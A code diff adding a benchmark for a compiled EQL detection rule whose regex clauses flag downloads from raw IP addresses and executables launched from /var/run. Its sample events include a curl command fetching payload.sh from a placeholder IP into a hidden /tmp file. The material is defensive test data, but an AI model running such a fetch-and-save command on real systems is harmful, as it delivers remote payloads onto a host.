@@ -82,3 +82,32 @@ for (const [p, v, label] of [
     `  cold ${cold.toFixed(2)} ms, warm ${median(warm).toFixed(2)} ms -> ${verdict}  ${p} on ${label}`,
   );
 }
+
+// The regex rule path end to end: a compiled EQL event query with `regex` / `regex~` clauses.
+const { compileQuery } = await import("../../src/eql/index.ts");
+const ruleQuery = `process where event.type == "start" and
+  (process.command_line regex ".*[0-9]{1,3}\\\\.[0-9]{1,3}\\\\.[0-9]{1,3}\\\\.[0-9]{1,3}(:[0-9]{1,5})?/[^ ]+.*" or
+   process.executable regex~ """/var/run/\\w+\\.(pid|lock|reboot)""")`;
+const q = compileQuery(ruleQuery);
+const event = (cmd: string, exe: string) => ({
+  event: { category: ["process"], type: ["start"] },
+  process: { command_line: cmd, executable: exe, name: exe.split("/").pop() },
+});
+const events = [
+  event("/usr/bin/curl -fsSL http://203.0.113.7:8080/payload.sh -o /tmp/.x", "/usr/bin/curl"),
+  event("/usr/sbin/sshd -D", "/usr/sbin/sshd"),
+  event("/var/run/agent.pid --daemon", "/VAR/RUN/agent.PID"),
+  event(`python3 -c '${"x".repeat(300_000)}'`, "/usr/bin/python3"),
+];
+const verdicts = events.map((e) => q.matches(e));
+for (let i = 0; i < 200; i++) for (const e of events.slice(0, 3)) q.matches(e);
+const N = 20_000;
+const t0 = process.hrtime.bigint();
+for (let i = 0; i < N; i++) for (const e of events.slice(0, 3)) q.matches(e);
+const perEventUs = (ms(t0) * 1000) / (N * 3);
+const t1 = process.hrtime.bigint();
+q.matches(events[3]!);
+console.log(
+  `regex rule via compileQuery: ${perEventUs.toFixed(3)} us/event on ordinary process events; ` +
+    `${ms(t1).toFixed(2)} ms on a 300 KB command line; verdicts ${JSON.stringify(verdicts)}`,
+);
